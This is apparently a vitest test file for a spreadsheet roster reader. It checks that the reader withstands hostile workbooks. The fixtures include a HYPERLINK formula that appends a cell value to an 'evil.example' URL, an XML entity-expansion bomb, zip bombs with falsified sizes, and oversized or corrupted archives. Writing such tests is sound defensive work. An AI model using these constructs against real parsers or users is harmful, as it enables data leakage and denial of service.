import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { readFile } from '../../../src/networks/rosters/read-file.ts';
import { readXlsx } from '../../../src/networks/rosters/reading/read-xlsx.ts';
import { inlineCell, tampered, withSheet, workbook, xlsx } from '../../support/workbook.ts';

const read = async (bytes: Uint8Array) => {
  const found = await readFile(xlsx(bytes));
  return found.kind === 'rows' ? found.rows : found.sentence;
};

describe('a list as a workbook', () => {
  test('given two sheets, then it is the first, with dates, numbers and ticks as words', async () => {
    const bytes = await workbook(
      [
        ['Name', 'Start date', 'Interim', 'Number'],
        ['Siân O’Brackwater', new Date(Date.UTC(2024, 8, 2)), true, 7],
        [],
        ['Rowan Ash', null, false],
      ],
      [['Another sheet']],
    );
    expect(await read(bytes)).toEqual([
      ['Name', 'Start date', 'Interim', 'Number'],
      ['Siân O’Brackwater', '2024-09-02', 'yes', '7'],
      [],
      ['Rowan Ash', '', 'no'],
    ]);
  });

  test('given formulas, then what was saved with them is read and nothing is computed', async () => {
    const bytes = await withSheet(
      `<row r="1">${inlineCell('A1', 'Name')}${inlineCell('B1', 'E-mail')}</row>` +
        '<row r="2"><c r="A2" t="str"><f>"Rowan"&amp;" "&amp;"Ash"</f><v>Rowan Ash</v></c>' +
        '<c r="B2" t="str"><f>HYPERLINK("https://evil.example/"&amp;A2)</f></c><c r="C2" t="e"><f>1/0</f><v>#DIV/0!</v></c></row>',
    );
    expect(await read(bytes)).toEqual([
      ['Name', 'E-mail'],
      ['Rowan Ash', '', '#DIV/0!'],
    ]);
  });

  test('given entities of its own in a part, then they are not expanded', async () => {
    const lol = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>';
    const bytes = await withSheet(`<row r="1">${inlineCell('A1', 'x &b; y')}</row>`);
    const bomb = tampered(bytes, (parts) => {
      const sheet = Buffer.from(parts['xl/worksheets/sheet1.xml'] ?? '').toString();
      parts['xl/worksheets/sheet1.xml'] = strToU8(lol + sheet);
    });
    expect(JSON.stringify(await read(bomb))).not.toContain('haha');
  });
});

describe('what a hostile or broken workbook is met with', () => {
  const LARGE = 'far more than a list of people';
  const DAMAGED = 'damaged or incomplete';

  test('a zip bomb is refused before it is unpacked', async () => {
    const bytes = tampered(await workbook([['x']]), (parts) => {
      parts['xl/sharedStrings.xml'] = new Uint8Array(40 * 1024 * 1024);
    });
    expect(bytes.length).toBeLessThan(300_000);
    expect(await read(bytes)).toContain(LARGE);
  });

  test('a zip bomb that says it is small is stopped while it is unpacked', async () => {
    const bytes = tampered(await workbook([['x']]), (parts) => {
      parts['xl/sharedStrings.xml'] = new Uint8Array(40 * 1024 * 1024);
    });
    const lying = Buffer.from(bytes);
    const truth = Buffer.alloc(4);
    truth.writeUInt32LE(40 * 1024 * 1024);
    for (let at = lying.indexOf(truth); at >= 0; at = lying.indexOf(truth, at))
      lying.writeUInt32LE(1_000, at);
    expect(await read(lying)).toContain(DAMAGED);
  });

  test('a thousand parts are too many', async () => {
    const bytes = tampered(await workbook([['x']]), (parts) => {
      for (let at = 0; at < 1_000; at++) parts[`xl/part${at}.xml`] = strToU8('<a/>');
    });
    expect(await read(bytes)).toContain(LARGE);
  });

  test('a row far down, and a cell far to the right, take no memory', async () => {
    const far = `<row r="900000000">${inlineCell('A900000000', 'x')}</row>`;
    expect(await read(await withSheet(far))).toContain('more than 20,000 rows');
    const wide = `<row r="1">${inlineCell('XFD1', 'x')}</row>`;
    expect(await read(await withSheet(wide))).toContain('more than 60 columns');
    const empty = '<row r="1"><c r="XFD1"/></row>';
    expect(await read(await withSheet(`${empty}<row r="2">${inlineCell('A2', 'x')}</row>`))).toEqual([
      [],
      ['x'],
    ]);
  });

  test('a file that takes too much memory, or too long, takes only its own thread', async () => {
    const rows = Array.from({ length: 1_000 }, (_, at) => `<row r="${at + 1}"><c r="XFD${at + 1}"/></row>`);
    const bytes = await withSheet(rows.join(''));
    const within = (milliseconds: number, megabytes: number) => readXlsx(bytes, { milliseconds, megabytes });
    const all = [within(20_000, 24), within(10, 384), within(20_000, 384)];
    const [hungry, slow, fine] = await Promise.all(all);
    expect(hungry).toMatchObject({ kind: 'unreadable', sentence: expect.stringContaining(LARGE) });
    expect(slow).toMatchObject({ kind: 'unreadable', sentence: expect.stringContaining(LARGE) });
    expect(fine).toEqual({ kind: 'rows', rows: [] });
  });

  test('half a file, half a sheet and a changed byte are all noticed', async () => {
    const whole = await workbook([['Name'], ['Rowan Ash']]);
    expect(await read(whole.subarray(0, whole.length - 40))).toContain(DAMAGED);
    expect(await read(await withSheet('<row r="1"></row><row r="2"><c', ''))).toContain(DAMAGED);
    const plain = zipSync(unzipSync(whole), { level: 0 });
    const changed = Buffer.from(plain);
    changed.write('Rowan Ask', changed.indexOf('Rowan Ash'));
    expect(await read(plain)).toEqual([['Name'], ['Rowan Ash']]);
    expect(await read(changed)).toContain(DAMAGED);
  });

  test.each([
    [
      'an OpenDocument sheet',
      { mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet'), 'content.xml': strToU8('<a/>') },
    ],
    ['any zip', { 'holiday.jpg': new Uint8Array(10) }],
    ['an empty zip', {}],
  ])('%s is told apart from a workbook', async (_, parts) => {
    expect(await read(zipSync(parts))).toContain('not an Excel workbook');
  });
});
